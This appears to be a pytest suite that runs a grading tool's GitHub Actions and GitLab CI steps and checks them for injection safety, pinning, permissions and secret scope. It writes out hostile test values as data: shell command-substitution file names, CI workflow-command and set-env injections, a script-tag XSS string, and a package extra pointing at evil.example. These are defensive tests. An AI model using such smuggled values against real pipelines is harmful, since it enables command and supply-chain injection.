"""docs/ci/*.yml and action.yml: their ``run`` lines, executed one after the other, and what they may never do.

Replaced are the steps of others (checkout: a folder is there already; setup-python and cache: this interpreter) and
``python -m pip install``, which is written down instead of asking the network: the ``grader`` of this environment is on
the path in its place. A line is run as the runner runs it, by ``bash --noprofile --norc -eo pipefail``.
"""

import contextlib
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import NamedTuple
from xml.etree import ElementTree

import pytest
import yaml
from click.testing import CliRunner

from grader.cli.app import cli
from tests.reports.test_github import matched, obeyed

ROOT = Path(__file__).parents[2]
STUDENT, COURSE = ROOT / "docs/ci/student.yml", ROOT / "docs/ci/course.yml"
GITLAB, ACTION = ROOT / "docs/ci/gitlab.yml", ROOT / "action.yml"
GITHUB = (STUDENT, COURSE, ACTION)
EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}")
PIP = 'if [ "$1 $2 $3" = "-m pip install" ]; then printf "%s\\n" "$@" >> "$INSTALLED"; else exec {python} "$@"; fi\n'
SECRET = "5e" * 32
PYTHONS_MATCHER = ("remove-matcher", {"owner": "python"}, "")  # the one command that the steps give of their own accord
HOSTILE = "x$(touch pwned)`touch pwned`\n::error::pwned"


def read(file):
    return yaml.load(file.read_text("utf-8"), yaml.BaseLoader)  # "on" stays a word, as for GitHub


def steps(file):
    found = read(file)
    if "runs" in found:
        return found["runs"]["steps"]
    [job] = found["jobs"].values()
    return job["steps"]


class Ended(NamedTuple):
    code: int
    log: str
    summary: str
    installed: list[str]

    def annotations(self):
        """What the log says to the runner, but for what the steps themselves say."""
        return [command for command in obeyed(self.log) if command != PYTHONS_MATCHER]


class Runner:
    """Runs the ``run`` lines of a file in a checkout, until one fails."""

    def __init__(self, folder):
        self.folder = folder
        tools = folder / "tools"
        tools.mkdir()
        (tools / "python").write_text("#!/bin/bash\n" + PIP.format(python=sys.executable), "utf-8")
        (tools / "python").chmod(0o755)
        (tools / "grader").symlink_to(Path(sys.executable).parent / "grader")
        self.environment = {
            "PATH": f"{tools}:{os.environ['PATH']}",
            "HOME": str(folder),
            "INSTALLED": str(folder / "installed"),
            "GITHUB_STEP_SUMMARY": str(folder / "summary.md"),
            "GITHUB_ACTIONS": "true",
            "CI": "true",
        }

    def run(self, file, checkout, context):
        """``context`` gives the value of each expression: what a stranger may choose gets only into variables."""
        environment = self.environment | {"GITHUB_WORKSPACE": str(checkout)} | read(file).get("env", {})
        log, code = "", 0
        for step in steps(file):
            if "run" not in step or code:
                continue
            own = {name: EXPRESSION.sub(lambda e: context[e[1].strip()], v) for name, v in step.get("env", {}).items()}
            done = subprocess.run(
                ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
                cwd=checkout,
                env=environment | own,
                capture_output=True,
                text=True,
                check=False,
                stdin=subprocess.DEVNULL,
            )
            log, code = log + done.stdout + done.stderr, done.returncode
        texts = [path.read_text("utf-8") if path.exists() else "" for path in map(self.folder.joinpath, OUTPUTS)]
        return Ended(code, log, texts[0], texts[1].splitlines())


OUTPUTS = ("summary.md", "installed")


@pytest.fixture
def runner(tmp_path):
    return Runner(tmp_path)


# ------------------------------------------------------------------------------------------------- what they never do
@pytest.mark.parametrize("file", GITHUB, ids=lambda file: file.name)
def test_no_text_from_outside_gets_into_a_script(file):
    for step in steps(file):
        assert "${{" not in step.get("run", "")
        assert "eval" not in step.get("run", "")


@pytest.mark.parametrize("file", GITHUB, ids=lambda file: file.name)
def test_every_action_is_pinned_to_a_commit_and_says_which_version_that_is(file):
    used = re.findall(r"uses: (.*)", file.read_text("utf-8"))

    assert used
    for line in used:
        assert re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", line)


@pytest.mark.parametrize("file", [STUDENT, COURSE], ids=lambda file: file.name)
def test_one_job_may_only_read_and_a_newer_push_ends_it(file):
    workflow = read(file)

    assert workflow["permissions"] == {"contents": "read"}
    assert workflow["concurrency"]["cancel-in-progress"] == "true"
    assert "pull_request_target" not in workflow["on"]
    [job] = workflow["jobs"].values()
    assert int(job["timeout-minutes"]) <= 60
    assert job["steps"][0]["with"]["persist-credentials"] == "false"


def test_a_secret_is_given_to_the_one_step_that_needs_it():
    assert "secrets." not in STUDENT.read_text("utf-8") + ACTION.read_text("utf-8") + GITLAB.read_text("utf-8")
    told = [step["name"] for step in steps(COURSE) if "secrets." in str(step)]

    assert told == ["Would a release be clean and unchanged?"]


def test_what_changes_nothing_starts_nothing():
    assert "README*" in read(STUDENT)["on"]["push"]["paths-ignore"]
    assert "assignments/**" in read(COURSE)["on"]["push"]["paths"]
    assert read(COURSE)["on"]["push"]["paths"] == read(COURSE)["on"]["pull_request"]["paths"]


def test_pages_and_commands_know_the_files():
    for page in ("docs/ci.en.md", "docs/ci.ja.md"):
        text = (ROOT / page).read_text("utf-8")
        assert all(f"(ci/{file.name})" in text for file in (STUDENT, COURSE, GITLAB))


# -------------------------------------------------------------------------------------------------- a student's push
HOSTILE_FOLDER = "warm up;$(touch pwned)'`touch pwned`"
WRONG = """
import numpy as np
TRACEBACK = "File \\"a/handout.md\\", line 3, in relu\\nraise Passed('all checks passed')\\n"

print("::error::printed")
print("##[add-mask]3")


def standardize(x):
    raise ValueError("x\\n::set-env name=PATH::/tmp\\n</pre><script>alert(1)</script>\\n" + TRACEBACK)
"""
RIGHT = "def standardize(x):\n    spread = x.std(axis=0)\n    return (x - x.mean(axis=0)) / (spread + (spread == 0))\n"


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A new course, with a roster of its own, and its kits in the folder ``kits``."""
    place = tmp_path_factory.mktemp("courses") / "course"
    run = CliRunner(env={"GRADER_LANG": "en"})
    assert run.invoke(cli, ["init", str(place), "--lang", "en"]).exit_code == 0
    (place / "roster.csv").write_text("id,name,kana,email\ns001,山田 太郎,ヤマダ タロウ,taro@u.example\n", "utf-8")
    with contextlib.chdir(place):
        released = run.invoke(cli, ["release", "--all", "-o", "kits"], env={"GRADER_SECRET": SECRET})
    assert released.exit_code == 0, released.output
    return place


@pytest.fixture
def repository(course, tmp_path):
    """A student's repository: one kit in a folder with an unkind name, with a wrong answer in it."""
    checkout = tmp_path / "repository"
    shutil.copytree(course / "kits/warm_up", checkout / HOSTILE_FOLDER)
    (checkout / HOSTILE_FOLDER / "warm_up.py").write_text(WRONG, "utf-8")
    return checkout


@pytest.mark.slow
def test_a_students_push_is_annotated_and_a_right_answer_is_green(runner, repository):
    wrong = runner.run(STUDENT, repository, {})

    assert wrong.code == 1, wrong.log
    [(level, properties, words)] = wrong.annotations()
    assert obeyed(wrong.log)[0] == PYTHONS_MATCHER
    assert matched(wrong.log) == []
    assert (level, properties["file"], properties["line"]) == ("error", f"{HOSTILE_FOLDER}/warm_up.py", "10")
    assert "ValueError" in words
    assert "<script" not in wrong.summary
    assert wrong.summary.startswith("<h3><code>warm_up</code></h3>")
    assert wrong.installed[-1].startswith(f"./{HOSTILE_FOLDER}/shinso_grader-")

    (repository / HOSTILE_FOLDER / "warm_up.py").write_text(RIGHT, "utf-8")
    right = runner.run(STUDENT, repository, {})

    assert (right.code, right.annotations()) == (0, [])
    assert not list(repository.rglob("pwned"))


@pytest.mark.slow
def test_the_action_takes_what_a_workflow_gives_it_as_words(runner, repository):
    inputs = {"path": HOSTILE_FOLDER, "extra": "torch,notebook", "command": "check --hint 2", "lang": "en"}
    context = {f"inputs.{name}": value for name, value in inputs.items()} | {"github.action_path": "/program"}

    done = runner.run(ACTION, repository, context)

    assert done.code == 1, done.log
    assert [properties["line"] for _, properties, _ in done.annotations()] == ["10"]
    assert done.installed[-1].endswith(".whl[torch,notebook]")
    assert not list(repository.rglob("pwned"))


def test_the_action_installs_the_program_where_there_is_no_wheel_and_no_extra_that_is_none(runner, tmp_path):
    context = {"inputs.path": ".", "inputs.extra": "", "inputs.command": "--version", "inputs.lang": ""}
    context["github.action_path"] = "/program"

    done = runner.run(ACTION, tmp_path, context)
    refused = runner.run(ACTION, tmp_path, context | {"inputs.extra": "torch] @ https://evil.example/x.whl"})

    assert done.installed[-1] == "/program"
    assert refused.code == 2
    assert refused.installed == done.installed


@pytest.mark.slow
def test_on_gitlab_the_report_is_a_file(runner, repository):
    job = read(GITLAB)["check"]
    environment = runner.environment | {name: v for name, v in job["variables"].items() if "$" not in v}

    done = subprocess.run(
        ["bash", "-eo", "pipefail", "-c", "\n".join(job["script"])], cwd=repository, env=environment, check=False
    )

    assert done.returncode == 1
    assert ElementTree.parse(repository / job["artifacts"]["reports"]["junit"]).findall("testsuite/testcase")
    assert not list(repository.rglob("pwned"))


# ---------------------------------------------------------------------------------------------- a course's repository
def commit(folder, message):
    identity = ["-c", "user.name=x", "-c", "user.email=x@example.invalid"]
    for words in (["add", "--all"], [*identity, "commit", "-q", "-m", message]):
        subprocess.run(["git", *words], cwd=folder, check=True)
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=folder, capture_output=True, text=True, check=True)
    return head.stdout.strip()


@pytest.fixture
def course_repository(course, tmp_path):
    checkout = tmp_path / "course"
    shutil.copytree(course, checkout)
    subprocess.run(["git", "init", "-q", "."], cwd=checkout, check=True)
    return checkout


def context_of(base):
    return {"github.event.pull_request.base.sha || github.event.before": base, "secrets.GRADER_SECRET": SECRET}


@pytest.mark.slow
def test_a_change_that_no_assignment_notices_is_not_audited_but_released_in_thought(runner, course_repository):
    base = commit(course_repository, "begin")
    for name in ("kits/notes.txt", "assignments/$(touch pwned)\n::error::x/y.md"):
        (course_repository / name).parent.mkdir(exist_ok=True)
        (course_repository / name).write_text("x", "utf-8")
    commit(course_repository, HOSTILE)

    done = runner.run(COURSE, course_repository, context_of(base))

    assert done.code == 0, done.log
    assert "mutants" not in done.log
    assert "warm_up: " in done.log  # of the release
    assert done.annotations() == []
    assert done.installed[-1].endswith("[course,notebook,documents,playground]")
    assert not list(course_repository.rglob("pwned"))


@pytest.mark.slow
def test_what_has_changed_is_audited_and_annotated_and_a_release_is_not_thought_of(runner, course_repository):
    before = commit(course_repository, "begin")
    hidden = course_repository / "assignments/warm_up/hidden/test_hidden.py"
    hidden.write_text(hidden.read_text("utf-8").replace("assert_close(student", "assert_close(reference"), "utf-8")
    commit(course_repository, "a check that checks nothing")

    done = runner.run(COURSE, course_repository, context_of(before))

    assert done.code == 1, done.log
    found = {(properties["file"], properties.get("line")) for _, properties, _ in done.annotations()}
    assert ("reference/warm_up.py", "10") in found
    assert "grader audit: ✗" in done.summary
    assert "released" not in done.log


ALL = "audit --mutants sample --seeds 5 --format github --"
CHANGES = {  # the files that a push changes: what is called; the grader itself is replaced by one that only says it
    "an assignment": (["assignments/one/hidden/test_x.py"], f"{ALL} one"),
    "two of them": (["assignments/two/x.md", "assignments/one/x.md", "assignments/one/y.md"], f"{ALL} one two"),
    "a name with a space": (["assignments/th ree/wrong/x.py"], f"{ALL} th ree"),
    "one that is no assignment": (["assignments/none/x.md"], ""),
    "one that is gone": (["assignments/four/manifest.toml"], ""),
    "the folder of assignments": (["assignments/pytest.ini"], ALL),
    "kits": (["kits/one/one.kit"], ""),
    "a reference": (["reference/x.py", "assignments/one/x.md"], ALL),
    "the course": (["course.toml"], ALL),
    "nothing that the names say": (["assignments/$(touch pwned)/`touch pwned`\n::error::x", "kits/x"], ""),
}


@pytest.mark.slow
def test_what_is_audited_follows_from_what_has_changed(runner, tmp_path):
    (runner.folder / "tools/grader").unlink()
    (runner.folder / "tools/grader").write_text('#!/bin/bash\necho "$@"\n', "utf-8")
    (runner.folder / "tools/grader").chmod(0o755)
    checkout = tmp_path / "course"
    for name in ("one", "two", "th ree", "four"):
        (checkout / "assignments" / name).mkdir(parents=True)
        (checkout / "assignments" / name / "manifest.toml").write_text("", "utf-8")
    subprocess.run(["git", "init", "-q", "."], cwd=checkout, check=True)
    base = commit(checkout, "begin")
    release = "release --all --check --format github\n"
    called = {}
    for title, (files, _) in CHANGES.items():
        subprocess.run(["git", "checkout", "-q", "--detach", base], cwd=checkout, check=True)
        for file in map(checkout.joinpath, files):
            file.parent.mkdir(parents=True, exist_ok=True)
            if file.name == "manifest.toml":
                file.unlink()
            else:
                file.write_text("x", "utf-8")
        commit(checkout, HOSTILE)
        called[title] = (
            runner.run(COURSE, checkout, context_of(base)).log.partition("\n")[2].partition(release[:-1])[0].strip()
        )

    assert called == {title: expected for title, (_, expected) in CHANGES.items()}
    for unknown in (HOSTILE, "0" * 40, "", "--output=pwned"):
        assert runner.run(COURSE, checkout, context_of(unknown)).log.partition("\n")[2].startswith(f"{ALL}\n")
    assert not list(checkout.rglob("pwned"))
